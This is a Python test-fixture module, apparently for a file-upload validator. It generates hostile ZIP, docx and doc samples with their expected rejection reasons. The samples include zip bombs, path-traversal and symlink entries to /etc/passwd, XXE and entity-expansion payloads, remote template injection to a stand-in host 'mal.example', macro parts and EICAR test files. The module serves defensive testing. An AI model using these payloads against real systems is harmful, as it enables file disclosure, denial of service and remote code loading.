"""ZIP archives and Word documents: bombs, slips, entities, macros, programmes and viruses inside."""

import io
import struct
import zipfile
from collections.abc import Iterator

from . import fichiers as f
from .clamav import EICAR
from .hostiles import GARDE, INFECTE, Hostile, coupes, hostile, retournes

XXE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
RIRES = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{genre}" '
    'Target="{ou}" TargetMode="External"/></Relationships>'
)


def table() -> Iterator[Hostile]:
    yield from _archives()
    yield from _glissades()
    yield from _contenus()
    yield from _word()
    yield from _infectes()


def _archives() -> Iterator[Hostile]:
    saine = f.archive({"a.pdf": f.pdf(), "b.jpg": f.image()})
    refus = ("illisible", "type_refuse", "vide", "archive_douteuse", "archive_demesuree", "mot_de_passe")
    for coupe, reste in coupes(saine, 10):
        yield hostile(f"zip coupé à {coupe}", "a.zip", reste, *refus)
    for rang, copie in retournes(saine, 10, graine=20):
        yield hostile(f"zip aux octets retournés {rang}", "a.zip", copie, GARDE, "archive_contenu", *refus)
    yield hostile("zip vide", "a.zip", b"PK\x05\x06" + b"\0" * 18, "type_refuse", "vide")
    yield hostile("zip au mot de passe", "a.zip", _chiffree(saine), "mot_de_passe")
    yield hostile("zip annoncé de 4 Go", "a.zip", _annoncee(saine, 2**32 - 2), "archive_demesuree")
    yield hostile("zip aux entrées l'une sur l'autre", "a.zip", _superposee(400), "archive_demesuree", "illisible")
    milliers = f.archive({f"{n}.txt": b"" for n in range(501)})
    yield hostile("zip de 501 fichiers", "a.zip", milliers, "archive_demesuree")
    dedans = f.archive({"a.txt": b"\0" * 5_000_000})
    for _ in range(3):
        dedans = f.archive({f"{n}.zip": dedans for n in range(4)})
    yield hostile("zip dans un zip, quatre fois", "a.zip", dedans, "archive_contenu")


def _chiffree(octets: bytes) -> bytes:
    """The same, each entry said to be locked."""
    copie = bytearray(octets)
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        debut = -1
        while (debut := copie.find(signature, debut + 1)) >= 0:
            copie[debut + place] |= 1
    return bytes(copie)


def _annoncee(octets: bytes, taille: int) -> bytes:
    place = octets.index(b"PK\x01\x02") + 24
    return octets[:place] + struct.pack("<I", taille) + octets[place + 4 :]


def _superposee(fois: int) -> bytes:
    """A table of contents that names the same megabyte again and again."""
    saine = f.archive({"a.txt": b"\0" * 1_000_000})
    table_des_matieres, fin = saine.index(b"PK\x01\x02"), saine.index(b"PK\x05\x06")
    entree = saine[table_des_matieres:fin]
    pied = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, fois, fois, len(entree) * fois, table_des_matieres, 0)
    return saine[:table_des_matieres] + entree * fois + pied


def _glissades() -> Iterator[Hostile]:
    for nom in (
        "../../etc/passwd.pdf",
        "..\\..\\Windows\\a.pdf",
        "/etc/cron.d/a.pdf",
        "C:\\a.pdf",
        "a/../../b.pdf",
        "\\\\serveur\\partage\\a.pdf",
    ):
        yield hostile(f"zip qui glisse vers {nom}", "a.zip", f.archive({nom: b"x"}), "archive_douteuse")
    lien = zipfile.ZipInfo("a.pdf")
    lien.external_attr = 0o120777 << 16
    sortie = io.BytesIO()
    with zipfile.ZipFile(sortie, "w") as archive:
        archive.writestr(lien, "/etc/passwd")
    yield hostile("zip à lien symbolique", "a.zip", sortie.getvalue(), "archive_douteuse")


def _contenus() -> Iterator[Hostile]:
    for nom in (
        *(
            "a.exe",
            "A.EXE",
            "a.pdf.exe",
            "dossier/a.scr",
            "a.bat",
            "a.js",
            "a.vbs",
            "a.lnk",
            "a.html",
            "a.svg",
            "a.hta",
        ),
        *("a.jar", "a.ps1", "a.docm", "a.xlsm", "a.msi", "a.iso", "a.7z", "a.rar", "a.exe ", "a.exe.", "a.e\u202exe"),
    ):
        yield hostile(f"zip qui contient {nom!a}", "a.zip", f.archive({nom: b"MZ"}), "archive_contenu")
    honnete = {"a.pdf": f.pdf(), "__MACOSX/._a.pdf": b"x", "Thumbs.db": b"x", "notes.txt": b"x", "lettre.odt": b"x"}
    yield hostile("zip honnête d'un ordinateur", "a.zip", f.archive(honnete), GARDE)


def _word() -> Iterator[Hostile]:
    saine = f.docx(b"<w:document>bonjour</w:document>")
    refus = ("illisible", "type_refuse", "type_trompeur", "archive_douteuse", "archive_demesuree", "mot_de_passe")
    for coupe, reste in coupes(saine, 10):
        yield hostile(f"docx coupé à {coupe}", "a.docx", reste, *refus)
    for rang, copie in retournes(saine, 8, graine=30):
        yield hostile(f"docx aux octets retournés {rang}", "a.docx", copie, GARDE, "archive_contenu", *refus)
    entete = b'<?xml version="1.0"?>'
    for titre, octets in (
        ("entité extérieure", f.docx(entete + XXE)),
        ("entités qui se multiplient", f.docx(entete + RIRES)),
        ("entité loin dans le texte", f.docx(entete + b"<!--" + b"x" * 5000 + b"-->" + XXE)),
        ("entité en UTF-16", f.docx((entete + XXE).decode().encode("utf-16"))),
        ("entité dans les réglages", f.docx(**{"word/settings.xml": entete + XXE})),
        ("entité dans les relations", f.docx(**{"_rels/.rels": entete + XXE})),
        ("modèle lu au loin", _relie("attachedTemplate")),
        ("modèle lu au loin, adresse déguisée", _relie("attachedTemplate", "&#104;ttps://mal.example/a.dotm")),
        ("modèle lu sur un partage", _relie("attachedTemplate", "file:///\\\\mal.example\\a.dotm")),
        ("objet lu au loin", _relie("oleObject")),
        ("cadre lu au loin", _relie("frame")),
    ):
        yield hostile(f"docx : {titre}", "a.docx", octets, "archive_douteuse", "archive_contenu")
    yield hostile("docx : lien honnête", "a.docx", _relie("hyperlink"), GARDE)
    for ou in ("file:///C:\\Users\\moi\\lettre.dotx", "file:////Users/moi/lettre.dotx"):
        yield hostile(f"docx : modèle de l'ordinateur {ou}", "a.docx", _relie("attachedTemplate", ou), GARDE)
    for nom in ("word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/activeX/activeX1.bin"):
        yield hostile(f"docx : {nom}", "a.docx", f.docx(**{nom: b"x"}), "macros")
    yield hostile("docx : programme joint", "a.docx", f.docx(**{"word/embeddings/a.exe": b"MZ"}), "archive_contenu")
    bombe = f.docx(b"<w:document>" + b" " * 31_000_000)
    yield hostile("docx qui se gonfle", "a.docx", bombe, "archive_demesuree")
    yield hostile("docx nommé zip", "a.zip", saine, "type_trompeur")
    yield hostile("docx nommé pdf", "a.pdf", saine, "type_trompeur")
    yield hostile("doc à macros", "a.doc", f.doc(macros=True), "macros")
    yield hostile(
        "ole qui n'est pas un texte", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 900, "type_refuse"
    )
    for coupe, reste in coupes(f.doc(), 6):
        yield hostile(f"doc coupé à {coupe}", "a.doc", reste, "type_refuse", GARDE)


def _relie(genre: str, ou: str = "http://mal.example/modele.dotm") -> bytes:
    return f.docx(**{"word/_rels/document.xml.rels": RELATIONS.format(genre=genre, ou=ou).encode()})


def _infectes() -> Iterator[Hostile]:
    yield hostile("virus nu", "virus.com", EICAR, "type_refuse")
    yield hostile("virus nommé pdf", "virus.pdf", EICAR, "type_refuse")
    yield hostile("virus dans un zip", "a.zip", f.archive({"lettre.txt": EICAR}), INFECTE)
    yield hostile("virus dans un dossier de zip", "a.zip", f.archive({"a/b/c/lettre.txt": EICAR}), INFECTE)
    yield hostile("virus dans un docx", "a.docx", f.docx(**{"word/media/image1.png": EICAR}), INFECTE)
    yield hostile("virus dans un doc", "a.doc", f.doc() + EICAR, INFECTE)
    yield hostile("virus après un zip", "a.zip", f.archive({"a.txt": b"x"}) + EICAR, INFECTE, "illisible")
    yield hostile("virus après une photo", "a.jpg", f.image() + EICAR, INFECTE)
    yield hostile("virus après un png", "a.png", f.image("PNG") + EICAR, INFECTE)
